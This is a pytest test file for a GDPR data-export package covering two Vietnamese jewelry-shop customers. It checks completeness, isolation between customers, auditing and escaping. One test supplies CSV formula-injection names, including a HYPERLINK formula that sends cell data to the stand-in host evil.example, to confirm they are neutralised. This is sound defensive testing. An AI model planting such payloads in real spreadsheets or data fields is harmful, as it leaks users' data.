"""The data package (issue 6 item 3; P18; GDPR Art 15, 20): everything about one customer from
every app, as data.json, one CSV per table, a README and a readable HTML page in the customer's
language; built in memory for the customer only, and audited.

Personas under preset B (Leman Jewelry): Nhung, who ordered, paid by card, got a guarantee card
and an invoice, sent a copy of her ID card, gave two consents and asked for her data; and Bảo,
another customer, whose values must never appear in Nhung's package.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid
import zipfile
from dataclasses import dataclass
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from pledge.audit.models import AuditEvent
from pledge.consent.services import give_consent
from pledge.rights import export
from pledge.rights.export import Package, build_package
from pledge.rights.services import RequestInvalid, file_request
from pledge.vault import services
from pledge.vault.access import Actor
from pledge.vault.documents import store_id_document
from pledge.vault.errors import AccessRefused
from pledge.vault.invoices import issue_invoice
from pledge.vault.payments import CardInput, authorize_payment

NAME = "Nguyễn Thị Hồng Nhung"
EMAIL = "hong.nhung@example.vn"
PHONE = "0912 345 678"
PHONE_E164 = "+84912345678"
ADDRESS = "12 Lý Thái Tổ, Hà Nội"
ORDER = "LM-ORDER-1"
INVOICE = "HD-2026-0001"
GUARANTEE = "LM-2026-000123"
PRODUCT = "Nhẫn vàng 18K"
CARD_NUMBER = "4111 1111 1111 1111"
CARD_HOLDER = "NGUYEN THI HONG NHUNG"
NOTICE = "Leman gửi thông báo về đơn hàng của bạn qua email (bản thử nghiệm 7311)."

OTHER_NAME = "Trần Quốc Bảo"
OTHER_EMAIL = "quoc.bao@example.vn"
OTHER_PHONE_E164 = "+84987654321"
OTHER_ADDRESS = "45 Nguyễn Huệ, TP. Hồ Chí Minh"
OTHER_ORDER = "LM-ORDER-2"

# The values of Nhung's that the package must carry in every form (the card number is never
# kept, so never shown: it is not here).
PERSONAL = [NAME, EMAIL, PHONE_E164, ADDRESS, ORDER, INVOICE, GUARANTEE, CARD_HOLDER]
KNOWN = [*PERSONAL, PRODUCT]
OTHERS = [OTHER_NAME, OTHER_EMAIL, OTHER_PHONE_E164, OTHER_ADDRESS, OTHER_ORDER]

# The smallest PNG there is: a real image, for the identity-document copy.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6300010000050001"
    "0d0a2db40000000049454e44ae426082"
)


@dataclass(frozen=True)
class Person:
    id: uuid.UUID

    @property
    def actor(self) -> Actor:
        return Actor(kind="customer", id=str(self.id))


def seed(
    shop_api: Actor,
    *,
    name: str = NAME,
    email: str = EMAIL,
    phone: str = PHONE,
    address: str = ADDRESS,
    order: str = ORDER,
    language: str = "en",
    everything: bool = True,
) -> uuid.UUID:
    """A customer recorded by the shop's backend through the vault's real services."""
    cid: uuid.UUID = services.collect_customer(
        actor=shop_api,
        purpose="customer_database",
        fields={"full_name": name, "email": email, "phone": phone, "address": address},
        consent_method="checkbox",
        language=language,
    )
    order_id = services.place_order(
        actor=shop_api,
        purpose="order_fulfilment",
        customer_id=cid,
        number=order,
        items=[{"sku": "RG-18K-01", "name": PRODUCT, "quantity": 1, "unit_price": "5200000"}],
        total="5200000",
        fields={"full_name": name, "address": address},
    )
    if not everything:
        return cid
    services.issue_guarantee(
        actor=shop_api,
        purpose="guarantee",
        customer_id=cid,
        number=GUARANTEE,
        product=PRODUCT,
        issued_on=dt.date(2026, 1, 5),
        valid_until=dt.date(2027, 1, 5),
        order_id=order_id,
    )
    authorize_payment(
        actor=shop_api,
        purpose="payment",
        customer_id=cid,
        order_id=order_id,
        card=CardInput(
            number=CARD_NUMBER, expiry_month=12, expiry_year=2030, holder=CARD_HOLDER, cvc="123"
        ),
    )
    issue_invoice(
        actor=shop_api, purpose="payment", customer_id=cid, order_id=order_id, number=INVOICE
    )
    store_id_document(
        actor=shop_api,
        purpose="order_fulfilment",
        customer_id=cid,
        content=PNG,
        content_type="image/png",
    )
    # A consent given on the shop's site with the exact text shown there (P04).
    give_consent(
        customer_id=cid,
        purpose="service_notices",
        method="checkbox",
        actor=shop_api.label,
        channel="web",
        language="vi",
        notice_text=NOTICE,
    )
    return cid


@pytest.fixture
def nhung(leman: Any, shop_api: Actor) -> Person:
    return Person(seed(shop_api))


@pytest.fixture
def bao(leman: Any, shop_api: Actor) -> Person:
    return Person(
        seed(
            shop_api,
            name=OTHER_NAME,
            email=OTHER_EMAIL,
            phone="0987 654 321",
            address=OTHER_ADDRESS,
            order=OTHER_ORDER,
            everything=False,
        )
    )


def package_of(person: Person, language: str = "en") -> Package:
    return build_package(actor=person.actor, customer_id=person.id, language=language)


def unzip(package: Package) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package.zip_bytes())) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def all_csv_text(files: dict[str, bytes]) -> str:
    return "\n".join(v.decode("utf-8") for k, v in files.items() if k.endswith(".csv"))


# -- what is in it ---------------------------------------------------------------------------


def test_the_zip_holds_data_json_a_csv_per_table_the_page_and_a_readme(nhung: Person) -> None:
    files = unzip(package_of(nhung))
    names = list(files)
    # A fixed order: the readme first, then the document, the page and the tables.
    assert names[:3] == ["README.txt", "data.json", "index.html"]
    expected = {
        "profile.csv",
        "account.csv",
        "sessions.csv",
        "devices.csv",
        "orders.csv",
        "order_items.csv",
        "invoices.csv",
        "guarantees.csv",
        "cards.csv",
        "payments.csv",
        "id_documents.csv",
        "staff_notes.csv",
        "consents.csv",
        "policy_acceptances.csv",
        "requests.csv",
        "access_log.csv",
    }
    assert set(names[3:]) == expected
    document = json.loads(files["data.json"])
    assert document["schema"] == "pledge-data-package"
    assert document["schema_version"] == export.SCHEMA_VERSION
    assert document["customer"]["id"] == str(nhung.id)
    # The readable page is a whole document in the customer's language.
    assert files["index.html"].decode().startswith("<!doctype html>")
    assert '<html lang="en">' in files["index.html"].decode()
    readme = files["README.txt"].decode()
    assert "data.json" in readme and "orders.csv" in readme and "Leman" in readme


def test_every_known_value_is_in_the_json_the_csvs_and_the_page(nhung: Person) -> None:
    package = package_of(nhung)
    files = unzip(package)
    forms = {
        "data.json": files["data.json"].decode(),
        "csv": all_csv_text(files),
        "html": package.html,
        "index.html": files["index.html"].decode(),
    }
    for form, text in forms.items():
        for value in KNOWN:
            assert value in text, f"{value!r} missing from {form}"
    document = json.loads(files["data.json"])
    assert document["profile"]["full_name"] == NAME
    assert document["profile"]["phone"] == PHONE_E164
    assert document["orders"][0]["number"] == ORDER
    assert document["orders"][0]["fields"] == {"address": ADDRESS, "full_name": NAME}
    assert document["orders"][0]["items"][0]["name"] == PRODUCT
    assert document["invoices"][0]["number"] == INVOICE
    assert document["cards"][0]["holder"] == CARD_HOLDER
    assert document["id_documents"][0]["content_type"] == "image/png"
    orders = csv_rows(files["orders.csv"])
    assert orders[0]["number"] == ORDER and orders[0]["full_name"] == NAME
    assert orders[0]["total"] == "5200000.00"


def test_the_card_number_and_the_document_image_are_never_in_it(nhung: Person) -> None:
    package = package_of(nhung)
    everything = b"".join(unzip(package).values())
    assert b"4111111111111111" not in everything and b"411111" not in everything
    assert PNG not in everything
    assert "VISA •••• 1111" in package.html


def test_another_customers_values_never_appear(nhung: Person, bao: Person) -> None:
    mine = b"".join(unzip(package_of(nhung)).values()).decode("utf-8", "replace")
    for value in OTHERS:
        assert value not in mine
    theirs = b"".join(unzip(package_of(bao)).values()).decode("utf-8", "replace")
    assert OTHER_NAME in theirs
    for value in PERSONAL:
        assert value not in theirs


def test_consents_carry_the_exact_notice_texts(nhung: Person) -> None:
    package = package_of(nhung)
    files = unzip(package)
    consents = json.loads(files["data.json"])["consents"]
    by_purpose = {c["purpose"]: c for c in consents}
    assert set(by_purpose) == {"customer_database", "service_notices"}
    given = by_purpose["service_notices"]
    assert given["action"] == "given" and given["method"] == "checkbox"
    assert given["notice"]["text"] == NOTICE
    assert len(given["notice"]["sha256"]) == 64
    # The consent given through the vault call carries the text the policy generated.
    assert by_purpose["customer_database"]["notice"]["text"]
    rows = {r["purpose"]: r for r in csv_rows(files["consents.csv"])}
    assert rows["service_notices"]["notice_text"] == NOTICE
    assert NOTICE in package.html
    # The receipt ids let the customer find each receipt again.
    assert {c["receipt_id"] for c in consents} == {r["receipt_id"] for r in rows.values()}


def test_requests_complaints_and_disclosures_have_their_sections(nhung: Person) -> None:
    # Entered by staff from a phone call: waiting for the identity check.
    request = file_request(
        actor=Actor(kind="staff", id="7", role="owner"),
        customer_id=nhung.id,
        kind="access",
        channel="staff",
    )
    package = package_of(nhung)
    files = unzip(package)
    document = json.loads(files["data.json"])
    assert [r["id"] for r in document["requests"]] == [str(request.id)]
    assert document["requests"][0]["kind"] == "access"
    assert document["requests"][0]["status"] == "identity_unverified"
    assert "identity not verified" in package.html
    assert csv_rows(files["requests.csv"])[0]["id"] == str(request.id)
    # No disclosure yet: an empty section that says so.
    assert document["disclosures"] == []
    assert "disclosures.csv" not in files
    assert "Pledge has recorded no disclosure of your data." in package.html
    # No complaint yet: an empty section that says so.
    assert document["complaints"] == [] and "complaints.csv" not in files
    assert 'data-section="complaints"' in package.html
    assert "Pledge has recorded no complaint from you." in package.html


def test_complaints_their_times_and_texts_are_in_the_package(nhung: Person) -> None:
    from pledge.complaints.services import file_complaint

    text = "Tôi nhận được email quảng cáo dù đã từ chối."
    complaint = file_complaint(
        actor=Actor(kind="customer", id=str(nhung.id)),
        customer_id=nhung.id,
        channel="privacy_center",
        text=text,
    )
    files = unzip(package_of(nhung))
    document = json.loads(files["data.json"])
    [row] = document["complaints"]
    assert row["id"] == str(complaint.id) and row["channel"] == "privacy_center"
    assert row["status"] == "acknowledged" and row["due_at"]
    assert csv_rows(files["complaints.csv"])[0]["id"] == str(complaint.id)
    # the text is one of the customer's vault values, under its complaint's id
    assert {(v["record_kind"], v["record_id"], v["value"]) for v in document["other_values"]} >= {
        ("complaint", str(complaint.id), text)
    }


def test_who_accessed_my_data_names_roles_and_purposes_never_staff(
    nhung: Person, staff: Any
) -> None:
    services.read_customer(
        actor=staff("customer_service", "staff-4242"),
        purpose="order_fulfilment",
        customer_id=nhung.id,
        fields=["full_name", "phone"],
    )
    package = package_of(nhung)
    files = unzip(package)
    log = json.loads(files["data.json"])["access_log"]
    staff_reads = [e for e in log if e["actor_kind"] == "staff"]
    assert staff_reads == [
        {
            "at": staff_reads[0]["at"],
            "event": "vault:read",
            "actor_kind": "staff",
            "actor_role": "customer_service",
            "purpose": "order_fulfilment",
            "fields": ["full_name", "phone"],
        }
    ]
    # The package's own read is there too, as the customer's.
    assert any(e["actor_kind"] == "customer" and e["purpose"] == "subject_access" for e in log)
    everything = b"".join(files.values()).decode("utf-8", "replace") + package.html
    assert "staff-4242" not in everything
    # The page names the role as the policy does, and the purpose in words.
    assert ">staff: Customer service</td>" in package.html


# -- languages -------------------------------------------------------------------------------


def test_the_page_is_in_the_language_asked_for(nhung: Person) -> None:
    english, vietnamese = package_of(nhung, "en"), package_of(nhung, "vi")
    assert '<html lang="en">' in english.html and '<html lang="vi">' in vietnamese.html
    # Section titles and field labels differ; the values do not.
    assert ">Orders</h2>" in english.html and ">Đơn hàng</h2>" in vietnamese.html
    assert ">Guarantee cards</h2>" in english.html and ">Phiếu bảo hành</h2>" in vietnamese.html
    assert '<td data-label="Data">full name</td>' in english.html
    assert ">họ và tên</td>" in vietnamese.html and ">full name</td>" not in vietnamese.html
    assert NAME in english.html and NAME in vietnamese.html
    # Dates in each language's form: 5 January 2026 / 05/01/2026.
    assert "5 January 2026" in english.html and "05/01/2026" in vietnamese.html
    # The machine-readable parts keep their codes whatever the language.
    machine = json.loads(english.json_bytes()), json.loads(vietnamese.json_bytes())
    assert machine[0]["orders"] == machine[1]["orders"]
    assert json.loads(vietnamese.json_bytes())["language"] == "vi"


# -- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"Xem")',
        "+SUM(1+1)",
        "-2+3",
        "@SUM(A1:A9)",
    ],
)
def test_csv_cells_that_would_run_as_formulas_are_quoted(
    leman: Any, shop_api: Actor, name: str
) -> None:
    person = Person(seed(shop_api, name=name, everything=False))
    files = unzip(package_of(person))
    profile = {r["field"]: r for r in csv_rows(files["profile.csv"])}
    assert profile["full_name"]["value"] == "'" + name
    orders = csv_rows(files["orders.csv"])
    assert orders[0]["full_name"] == "'" + name
    # No cell of any CSV starts a formula.
    for file, data in files.items():
        if file.endswith(".csv"):
            for row in csv.reader(io.StringIO(data.decode("utf-8")[1:])):
                assert not any(cell.startswith(export.FORMULA_STARTS) for cell in row), file
    # JSON and the page keep the value as it is (escaped on the page).
    assert json.loads(files["data.json"])["profile"]["full_name"] == name


def test_csv_is_utf8_with_a_bom_and_iso_times(nhung: Person) -> None:
    files = unzip(package_of(nhung))
    raw = files["profile.csv"]
    assert raw.startswith(b"\xef\xbb\xbf")
    assert NAME.encode("utf-8") in raw  # Vietnamese as UTF-8, not transliterated
    order = csv_rows(files["orders.csv"])[0]
    placed = dt.datetime.fromisoformat(order["placed_at"])
    assert placed.tzinfo is not None
    document = json.loads(files["data.json"])
    assert dt.datetime.fromisoformat(document["generated_at"]).tzinfo is not None
    assert document["guarantees"][0]["issued_on"] == "2026-01-05"


def test_the_order_is_fixed(nhung: Person, shop_api: Actor) -> None:
    services.place_order(
        actor=shop_api,
        purpose="order_fulfilment",
        customer_id=nhung.id,
        number="LM-ORDER-0",
        items=[{"sku": "BR-01", "name": "Vòng tay bạc", "quantity": 2}],
        total="900000",
        fields={"full_name": NAME},
    )
    first, second = package_of(nhung), package_of(nhung)
    one, two = unzip(first), unzip(second)
    assert list(one) == list(two)
    for name in ("orders.csv", "order_items.csv", "profile.csv", "consents.csv"):
        assert one[name] == two[name], name
    # Newest first: the order placed last comes first.
    assert [o["number"] for o in json.loads(one["data.json"])["orders"]] == ["LM-ORDER-0", ORDER]


# -- who may build it, and what it costs ------------------------------------------------------


def test_building_it_is_one_audited_subject_access(nhung: Person) -> None:
    before = AuditEvent.objects.order_by("-seq").values_list("seq", flat=True).first() or 0
    package_of(nhung)
    new = list(AuditEvent.objects.filter(seq__gt=before).order_by("seq"))
    assert [e.type for e in new] == ["vault:read"]
    read = new[0]
    assert read.actor == f"customer:{nhung.id}" and read.purpose == "subject_access"
    assert {"full_name", "email", "phone", "address"} <= set(read.fields.split(","))
    for value in KNOWN:
        assert value not in read.canonical


def test_only_the_customer_may_have_their_package(nhung: Person, bao: Person, staff: Any) -> None:
    for actor in (bao.actor, staff("owner"), Actor(kind="system", id="rights")):
        with pytest.raises(AccessRefused):
            build_package(actor=actor, customer_id=nhung.id, language="en")
    refused = AuditEvent.objects.filter(type="vault:access_refused", customer_id=nhung.id)
    assert refused.count() == 3


@pytest.mark.parametrize("language", ["fr", "", None, 3, "EN"])
def test_an_unknown_language_is_refused(nhung: Person, language: Any) -> None:
    with pytest.raises(RequestInvalid, match="language"):
        build_package(actor=nhung.actor, customer_id=nhung.id, language=language)


@pytest.mark.parametrize("customer_id", ["not-a-uuid", 42, None])
def test_a_customer_id_that_is_not_a_uuid_is_refused(nhung: Person, customer_id: Any) -> None:
    with pytest.raises(RequestInvalid, match="customer_id"):
        build_package(actor=nhung.actor, customer_id=customer_id, language="en")


def test_the_number_of_queries_does_not_grow_with_the_records(leman: Any, shop_api: Actor) -> None:
    """No query per order, consent or event (the bench's budget: one customer among 1,000,000
    with 5,000,000 orders, p95 <= 100 ms)."""
    few = Person(seed(shop_api, order="FEW-1", everything=False))
    many = Person(seed(shop_api, name="Lê Văn Nhiều", email="nhieu@example.vn", order="MANY-1"))
    for n in range(2, 8):
        services.place_order(
            actor=shop_api,
            purpose="order_fulfilment",
            customer_id=many.id,
            number=f"MANY-{n}",
            items=[{"sku": f"SKU-{n}", "name": "Nhẫn", "quantity": n}],
            total="100000",
            fields={"full_name": "Lê Văn Nhiều"},
        )
    counts = []
    for person in (few, many):
        package_of(person)  # warm the caches (policy, templates)
        with CaptureQueriesContext(connection) as queries:
            package_of(person)
        counts.append(len(queries))
    # Nhiều has more kinds of record (guarantee, card, payment, invoice, document: one query
    # each), never more queries for more rows of a kind.
    assert counts[1] - counts[0] <= 5, counts
    assert counts[1] <= 30, counts
